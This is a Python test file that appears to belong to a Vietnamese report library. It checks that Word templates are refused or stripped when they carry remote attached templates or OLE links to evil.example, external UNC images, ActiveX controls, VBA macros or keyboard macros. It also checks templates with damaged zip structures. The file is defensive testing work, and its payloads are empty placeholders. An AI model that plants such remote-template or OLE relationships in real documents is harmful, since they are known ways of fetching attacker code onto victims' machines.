"""Hostile and damaged Word templates: refused (or stripped), the part named, never a traceback."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

import binhdanggioi as bdg
from binhdanggioi.cli import main
from binhdanggioi.errors import TemplateError, TemplateSecurityError
from binhdanggioi.renderers import docx as docx_renderer
from binhdanggioi.renderers import template_path
from binhdanggioi.renderers._docx_safety import inspect_package
from binhdanggioi.template_check import check_template

TEMPLATE = template_path(None, "bao-cao.docx")
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

Parts = dict[str, bytes]


def _text(parts: Parts, part: str) -> str:
    return parts[part].decode("utf-8")


def _add_relationship(
    parts: Parts, rels: str, rid: str, kind: str, target: str, *, external: bool
) -> None:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
    if rels not in parts:
        parts[rels] = (
            f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}"></Relationships>'.encode()
        )
    parts[rels] = _text(parts, rels).replace("</Relationships>", rel + "</Relationships>").encode()


def _add_to_body(parts: Parts, xml: str) -> None:
    body = _text(parts, "word/document.xml")
    at = body.rindex("<w:sectPr")
    parts["word/document.xml"] = (body[:at] + xml + body[at:]).encode()


def _add_content_type(parts: Parts, entry: str) -> None:
    types = _text(parts, "[Content_Types].xml")
    parts["[Content_Types].xml"] = types.replace("</Types>", entry + "</Types>").encode()


def _override(parts: Parts, part: str, ctype: str) -> None:
    _add_content_type(parts, f'<Override PartName="{part}" ContentType="{ctype}"/>')


def attached_template(parts: Parts) -> None:
    rels = "word/_rels/settings.xml.rels"
    _add_relationship(
        parts, rels, "rId1", f"{REL}/attachedTemplate", "http://evil.example/t.dotm", external=True
    )
    settings = _text(parts, "word/settings.xml")
    at = settings.index("<w:zoom")
    parts["word/settings.xml"] = (
        settings[:at] + '<w:attachedTemplate r:id="rId1"/>' + settings[at:]
    ).encode()


def external_image(parts: Parts) -> None:
    rels = "word/_rels/document.xml.rels"
    _add_relationship(parts, rels, "rId900", f"{REL}/image", r"\\server\share\x.png", external=True)
    _add_to_body(
        parts,
        '<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rId900"/></v:shape></w:pict></w:r></w:p>',
    )


def remote_ole(parts: Parts) -> None:
    rels = "word/_rels/document.xml.rels"
    _add_relationship(
        parts, rels, "rId901", f"{REL}/oleObject", "http://evil.example/x.sct", external=True
    )
    _add_to_body(
        parts, '<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="rId901"/></w:object></w:r></w:p>'
    )


def active_x(parts: Parts) -> None:
    rels = "word/_rels/document.xml.rels"
    _add_relationship(
        parts, rels, "rId902", f"{REL}/control", "activeX/activeX1.xml", external=False
    )
    parts["word/activeX/activeX1.xml"] = (
        b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    )
    parts["word/activeX/activeX1.bin"] = b"\x00" * 64
    _add_relationship(
        parts,
        "word/activeX/_rels/activeX1.xml.rels",
        "rId1",
        f"{MS_REL}/activeXControlBinary",
        "activeX1.bin",
        external=False,
    )
    _override(parts, "/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    _override(parts, "/word/activeX/activeX1.bin", "application/vnd.ms-office.activeX")
    _add_to_body(
        parts,
        '<w:p><w:r><w:object><w:control r:id="rId902" w:name="CheckBox1"/></w:object></w:r></w:p>',
    )


def macros(parts: Parts) -> None:
    rels = "word/_rels/document.xml.rels"
    _add_relationship(
        parts, rels, "rId903", f"{MS_REL}/vbaProject", "vbaProject.bin", external=False
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 60
    parts["word/vbaData.xml"] = (
        b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    )
    _add_relationship(
        parts,
        "word/_rels/vbaProject.bin.rels",
        "rId1",
        f"{MS_REL}/wordVbaData",
        "vbaData.xml",
        external=False,
    )
    _add_content_type(
        parts, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    _override(parts, "/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")
    types = _text(parts, "[Content_Types].xml").replace(PLAIN_MAIN, MACRO_MAIN)
    parts["[Content_Types].xml"] = types.encode()


def keyboard_macros(parts: Parts) -> None:
    rels = "word/_rels/document.xml.rels"
    _add_relationship(
        parts,
        rels,
        "rId904",
        f"{MS_REL}/keyMapCustomizations",
        "customizations.xml",
        external=False,
    )
    parts["word/customizations.xml"] = (
        b'<?xml version="1.0"?><wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    )
    parts["word/attachedToolbars.bin"] = b"\x00" * 32
    _override(parts, "/word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml")


# What each hostile change must be reported with: part names and words of the message.
HOSTILE: dict[str, tuple[Callable[[Parts], None], tuple[str, ...]]] = {
    "mau-ngoai": (
        attached_template,
        (
            "word/_rels/settings.xml.rels: mẫu gắn với mẫu ngoài (attachedTemplate)",
            "http://evil.example/t.dotm",
        ),
    ),
    "anh-ngoai": (
        external_image,
        ("word/_rels/document.xml.rels: liên kết ra ngoài (image)", r"\\server\share\x.png"),
    ),
    "ole": (
        remote_ole,
        ("word/_rels/document.xml.rels: đối tượng OLE (oleObject)", "http://evil.example/x.sct"),
    ),
    "activex": (
        active_x,
        (
            "word/activeX/activeX1.xml: điều khiển ActiveX",
            "word/activeX/activeX1.bin",
            "word/_rels/document.xml.rels: điều khiển ActiveX activeX/activeX1.xml",
            "application/vnd.ms-office.activeX+xml",
        ),
    ),
    "phim-tat": (
        keyboard_macros,
        (
            "document.xml.rels: phím tắt gọi macro (keyMapCustomizations) customizations.xml",
            "word/attachedToolbars.bin: thanh công cụ",
            "(phần /word/customizations.xml)",
        ),
    ),
    "macro": (
        macros,
        (
            "word/vbaProject.bin: macro VBA",
            "word/vbaData.xml: dữ liệu macro",
            "word/_rels/document.xml.rels: macro VBA (vbaProject) vbaProject.bin",
            f"[Content_Types].xml: kiểu văn bản có macro: {MACRO_MAIN}",
            "application/vnd.ms-office.vbaProject (đuôi .bin)",
        ),
    ),
}


def _parts() -> Parts:
    with zipfile.ZipFile(TEMPLATE) as z:
        return {info.filename: z.read(info) for info in z.infolist()}


def _write(path: Path, parts: Parts) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, blob in parts.items():
            z.writestr(name, blob)
    return path


def _hostile(tmp_path: Path, *changes: Callable[[Parts], None], name: str = "doc-hai.docx") -> Path:
    parts = _parts()
    for change in changes:
        change(parts)
    return _write(tmp_path / name, parts)


@pytest.fixture(scope="module")
def report() -> bdg.BaoCao:
    return bdg.load(bdg.example_path())


def test_the_shipped_template_has_nothing_to_refuse() -> None:
    assert inspect_package(_parts(), "bao-cao.docx") == []


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_template_is_refused_naming_each_part(
    tmp_path: Path, case: str, report: bdg.BaoCao
) -> None:
    change, expected = HOSTILE[case]
    evil = _hostile(tmp_path, change)
    with pytest.raises(TemplateSecurityError) as info:
        check_template(evil)
    message = str(info.value)
    assert "doc-hai.docx" in message
    for words in expected:
        assert words in message
    with pytest.raises(TemplateSecurityError):
        bdg.render(report, "docx", template=evil)


def test_every_finding_is_one_line_with_its_part_first(tmp_path: Path) -> None:
    evil = _hostile(tmp_path, *(change for change, _ in HOSTILE.values()))
    with pytest.raises(TemplateSecurityError) as info:
        docx_renderer.read_template(evil)
    lines = str(info.value).splitlines()
    findings = getattr(info.value, "findings", ())
    assert len(findings) >= 12
    for finding in findings:
        assert f"  {finding.part}: {finding.message}" in lines


def _external(blob: bytes) -> list[str]:
    from lxml import etree

    root = etree.fromstring(blob)
    return [rel.get("Type") for rel in root if rel.get("TargetMode") == "External"]


def test_strip_renders_a_report_without_any_of_it(tmp_path: Path, report: bdg.BaoCao) -> None:
    evil = _hostile(tmp_path, *(change for change, _ in HOSTILE.values()))
    prepared = docx_renderer.prepare(evil, strip=True)
    assert {f.part for f in prepared.removed} >= {
        "word/vbaProject.bin",
        "word/activeX/activeX1.xml",
        "word/_rels/settings.xml.rels",
    }
    out = zipfile.ZipFile(io.BytesIO(prepared.render(report)))
    names = out.namelist()
    refused = ("activex", "vba", "customizations", "toolbars")
    assert not [n for n in names if any(word in n.lower() for word in refused)]
    for name in names:
        if name.endswith(".rels"):
            assert _external(out.read(name)) == []
    types = out.read("[Content_Types].xml").decode()
    assert PLAIN_MAIN in types
    for word in ("macroEnabled", "vbaProject", "vbaData", "activeX", "keyMap"):
        assert word not in types
    document = out.read("word/document.xml").decode()
    settings = out.read("word/settings.xml").decode()
    for rid in ("rId900", "rId901", "rId902", "rId903", "rId904"):
        assert f'"{rid}"' not in document
    assert "attachedTemplate" not in settings and "w:control" not in document
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(prepared.render(report))).paragraphs)
    assert report.don_vi.ten in text
    assert "{{" not in text and "{%" not in text


def test_a_plain_hyperlink_is_allowed(tmp_path: Path, report: bdg.BaoCao) -> None:
    def hyperlink(parts: Parts) -> None:
        rels = "word/_rels/document.xml.rels"
        _add_relationship(
            parts, rels, "rId950", f"{REL}/hyperlink", "https://vbpl.vn/", external=True
        )
        _add_to_body(
            parts,
            '<w:p><w:hyperlink r:id="rId950"><w:r><w:t>Văn bản</w:t></w:r></w:hyperlink></w:p>',
        )

    template = _hostile(tmp_path, hyperlink, name="lien-ket.docx")
    assert check_template(template) == []
    out = zipfile.ZipFile(io.BytesIO(bdg.render(report, "docx", template=template)))
    rels = out.read("word/_rels/document.xml.rels")
    assert _external(rels) == [f"{REL}/hyperlink"] and b"https://vbpl.vn/" in rels


# --------------------------------------------------------------------------- damaged archives


def _central_entries(data: bytes) -> dict[str, int]:
    """Offset of each member's central directory record."""
    end = data.rindex(b"PK\x05\x06")
    count, _, start = struct.unpack("<HII", data[end + 10 : end + 20])
    offsets = {}
    at = start
    for _ in range(count):
        length, extra, comment = struct.unpack("<HHH", data[at + 28 : at + 34])
        offsets[data[at + 46 : at + 46 + length].decode()] = at
        at += 46 + length + extra + comment
    return offsets


def _patched(part: str, patch: Callable[[bytearray, int, int, zipfile.ZipInfo], None]) -> bytes:
    """The shipped template with ``patch(data, local header, central record, info)`` applied."""
    data = bytearray(TEMPLATE.read_bytes())
    info = zipfile.ZipFile(TEMPLATE).getinfo(part)
    patch(data, info.header_offset, _central_entries(bytes(data))[part], info)
    return bytes(data)


def _corrupt_deflate(data: bytearray, local: int, central: int, info: zipfile.ZipInfo) -> None:
    name, extra = struct.unpack("<HH", data[local + 26 : local + 30])
    data[local + 30 + name + extra] = 0xFF  # final block of the reserved type 3: invalid


def _method_99(data: bytearray, local: int, central: int, info: zipfile.ZipInfo) -> None:
    data[local + 8 : local + 10] = struct.pack("<H", 99)
    data[central + 10 : central + 12] = struct.pack("<H", 99)


def _encrypted(data: bytearray, local: int, central: int, info: zipfile.ZipInfo) -> None:
    data[local + 6] |= 1
    data[central + 8] |= 1


def _lying_size(data: bytearray, local: int, central: int, info: zipfile.ZipInfo) -> None:
    # Declares 100 bytes for a part that inflates to far more: reading stops there, CRC fails.
    data[local + 22 : local + 26] = struct.pack("<I", 100)
    data[central + 24 : central + 28] = struct.pack("<I", 100)


DAMAGED = {
    "deflate-hong": (_corrupt_deflate, "không giải nén được phần word/document.xml"),
    "nen-99": (_method_99, "phần word/document.xml nén theo phương pháp số 99"),
    "ma-hoa": (_encrypted, "bị mã hóa (đặt mật khẩu) ở phần word/document.xml"),
    "kich-thuoc-sai": (_lying_size, "không giải nén được phần word/document.xml"),
}


def _damaged(tmp_path: Path, case: str) -> Path:
    path = tmp_path / "hong.docx"
    if case == "cat-cut":
        path.write_bytes(TEMPLATE.read_bytes()[: TEMPLATE.stat().st_size // 2])
    else:
        path.write_bytes(_patched("word/document.xml", DAMAGED[case][0]))
    return path


@pytest.mark.parametrize("case", [*sorted(DAMAGED), "cat-cut"])
def test_a_damaged_template_is_a_template_error_naming_the_part(
    tmp_path: Path, case: str, report: bdg.BaoCao
) -> None:
    bad = _damaged(tmp_path, case)
    expected = DAMAGED[case][1] if case in DAMAGED else "hỏng: không mở được gói zip"
    for attempt in (lambda: check_template(bad), lambda: bdg.render(report, "docx", template=bad)):
        with pytest.raises(TemplateError) as info:
            attempt()
        assert type(info.value) is TemplateError
        assert "'hong.docx'" in str(info.value) and expected in str(info.value)


@pytest.mark.parametrize("case", [*sorted(DAMAGED), "cat-cut"])
def test_check_template_on_a_damaged_file_exits_1_with_one_line(
    tmp_path: Path, case: str, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = _damaged(tmp_path, case)
    assert main(["check-template", str(bad)]) == 1
    out, err = capsys.readouterr()
    assert out == ""
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("lỗi: mẫu 'hong.docx'")
    assert "Traceback" not in err


def test_the_unpacked_size_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(docx_renderer, "MAX_UNPACKED_BYTES", 10_000)
    with pytest.raises(
        TemplateSecurityError, match=r"giải nén ra \d+ KB, quá giới hạn 10 KB .*zip bomb"
    ):
        docx_renderer.read_template(TEMPLATE)
    monkeypatch.setattr(docx_renderer, "MAX_PARTS", 5)
    with pytest.raises(TemplateSecurityError, match="quá giới hạn 5 phần"):
        docx_renderer.read_template(TEMPLATE)


def test_a_part_given_twice_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "hai-lan.docx"
    with zipfile.ZipFile(TEMPLATE) as zin, zipfile.ZipFile(path, "w") as zout:
        for item in zin.infolist():
            zout.writestr(item, zin.read(item))
        zout.writestr("Word/_Rels/Document.xml.rels", zin.read("word/_rels/document.xml.rels"))
    with pytest.raises(TemplateSecurityError, match="hai lần"):
        docx_renderer.read_template(path)
